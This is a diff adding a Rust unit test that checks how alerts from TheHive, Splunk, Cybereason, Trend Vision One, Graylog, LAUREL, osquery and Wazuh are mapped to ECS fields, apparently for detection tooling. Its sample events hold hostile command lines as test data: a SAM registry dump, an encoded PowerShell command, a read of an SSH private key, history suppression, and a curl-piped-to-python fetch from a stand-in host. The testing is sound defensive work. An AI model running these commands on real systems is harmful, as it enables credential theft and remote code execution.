@@ -3776,6 +3776,68 @@ mod tests {
     }
 
     #[test]
+    fn thehive_splunk_rows_malops_oat_graylog_and_file_reads_map_to_ecs() {
+        // TheHive: the description's table and the observables' messages.
+        let h = from_json(json!({"_type": "alert", "sourceRef": "1738.9", "title": "Renamed AutoIt",
+            "description": "| Field | Value |\n|---|---|\n| Image | `C:\\Users\\t\\AppData\\Local\\Temp\\6\\Carolina.pif` |\n| OriginalFileName | `AutoIt3.exe` |\n| CommandLine | `Carolina.pif  P` |",
+            "artifacts": [{"dataType": "hostname", "data": "WS-1", "message": "agent.name"},
+                {"dataType": "other", "data": "cmd.exe /c copy Tents Tents.cmd & Tents.cmd", "message": "data.win.eventdata.parentCommandLine", "tags": ["commandline"]},
+                {"dataType": "filename", "data": "Setup.exe", "message": "grandparent image"}]}), "x").unwrap();
+        assert_eq!(h.doc["process"]["pe"]["original_file_name"], "AutoIt3.exe");
+        assert_eq!(h.doc["process"]["parent"]["name"], "cmd.exe");
+        assert_eq!(h.doc["process"]["parent"]["parent"]["name"], "Setup.exe");
+        assert_eq!(h.doc["host"]["name"], "WS-1");
+        // Splunk json_rows with the Windows add-on's 4688 names.
+        let rows = json!({"preview": false, "fields": ["host", "EventCode", "Account_Name", "New_Process_Name", "Creator_Process_Name", "Process_Command_Line", "Mandatory_Label"],
+            "rows": [["SQL-3", "4688", ["SQL-3$", "adm-l"], "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\PSEXESVC.exe", "cmd.exe /c reg save HKLM\\SAM s", "Mandatory Label\\High Mandatory Level"]]});
+        let r = from_json_expanded(rows, "x").remove(0).unwrap();
+        assert_eq!(r.doc["process"]["parent"]["name"], "PSEXESVC.exe");
+        assert_eq!(r.doc["user"]["name"], "adm-l");
+        assert_eq!(r.doc["process"]["integrity_level"], "High");
+        assert_eq!(r.doc["host"]["name"], "SQL-3");
+        // A Cybereason Malop's root-cause process.
+        let m = from_json(json!({"data": {"resultIdToElementDataMap": {"11.1": {"simpleValues": {"elementDisplayName": {"values": ["powershell.exe"]}},
+            "elementValues": {"primaryRootCauseElements": {"elementValues": [{"guid": "g1", "name": "powershell.exe", "simpleValues": {
+                "commandLine": {"values": ["powershell.exe -NoP -EncodedCommand AAAA"]},
+                "parentProcess.commandLine": {"values": ["C:\\Windows\\system32\\wsmprovhost.exe -Embedding"]}}}]}}}}}}), "x").unwrap();
+        assert_eq!(
+            m.doc["process"]["command_line"],
+            "powershell.exe -NoP -EncodedCommand AAAA"
+        );
+        // A Trend Vision One OAT: the event under `detail`, techniques from the filters.
+        let o = from_json(json!({"source": "endpointActivityData", "filters": [{"name": "Python compressed payload", "mitreTechniqueIds": ["T1059.006"]}],
+            "detail": {"endpointHostName": "ml-3", "processCmd": "/usr/lib/systemd/systemd --user", "processFilePath": "/usr/lib/systemd/systemd",
+                "objectCmd": "/usr/bin/python3 -c exec(x)", "objectFilePath": "/usr/bin/python3.10", "processUser": "oh"}}), "x").unwrap();
+        assert_eq!(
+            o.doc["process"]["command_line"],
+            "/usr/bin/python3 -c exec(x)"
+        );
+        assert_eq!(o.doc["threat"]["technique"]["id"], json!(["T1059.006"]));
+        // A Graylog search result's message: the auditd lines it carries, the source as host.
+        let g = from_json(json!({"index": "graylog_1", "message": {"gl2_message_id": "01", "source": "relay-4",
+            "message": "type=SYSCALL msg=audit(1761792697.802:1): syscall=257 ppid=1 pid=2 auid=1007 uid=0 comm=\"sh\" exe=\"/usr/bin/dash\"\ntype=PROCTITLE msg=audit(1761792697.802:1): proctitle=7368002D63006964"}}), "x").unwrap();
+        assert_eq!(g.doc["process"]["command_line"], "sh -c id");
+        assert_eq!(g.doc["host"]["name"], "relay-4");
+        // LAUREL: a file opened (not a program started) is the record's file.
+        let l = from_json(json!({"ID": "1672412831.442:9", "SYSCALL": {"pid": 5, "comm": "triton", "exe": "/home/ml/.venvs/n/triton", "SYSCALL": "openat"},
+            "PATH": [{"item": 0, "name": "/home/ml/.ssh/id_rsa", "nametype": "NORMAL"}]}), "x").unwrap();
+        assert_eq!(l.doc["file"]["path"], "/home/ml/.ssh/id_rsa");
+        // osquery's environment column as env_vars; Wazuh's decoded osquery rows.
+        let q = from_json(json!({"name": "pe", "hostIdentifier": "db-7", "action": "added", "columns": {"path": "/usr/bin/bash", "cmdline": "bash --norc",
+            "pid": "9", "parent": "8", "env": "HISTFILE=/dev/null PATH=/usr/bin:/bin TERM=dumb"}}), "x").unwrap();
+        assert_eq!(
+            q.doc["process"]["env_vars"],
+            json!(["HISTFILE=/dev/null", "PATH=/usr/bin:/bin", "TERM=dumb"])
+        );
+        let w = from_json(json!({"rule": {"id": "100615", "mitre": {"id": ["T1543.001"]}}, "agent": {"name": "MBP-5"},
+            "data": {"osquery": {"name": "pack_launchd", "hostIdentifier": "MBP-5", "action": "added", "columns": {"label": "com.x.agent",
+                "path": "/Users/n/Library/LaunchAgents/com.x.agent.plist", "program_arguments": "/bin/zsh -c curl -fsS https://x/c | /usr/bin/python3 -"}}}}), "x").unwrap();
+        assert_eq!(w.doc["process"]["parent"]["name"], "launchd");
+        assert_eq!(w.doc["host"]["name"], "MBP-5");
+        assert_eq!(w.doc["host"]["os"]["type"], "macos");
+    }
+
+    #[test]
     fn qradar_rows_sentinel_incidents_and_enveloped_pages_map_to_ecs() {
         // QRadar rows of one auditd record (SYSCALL, EXECVE) merged: the program from one, the
         // arguments from the other.
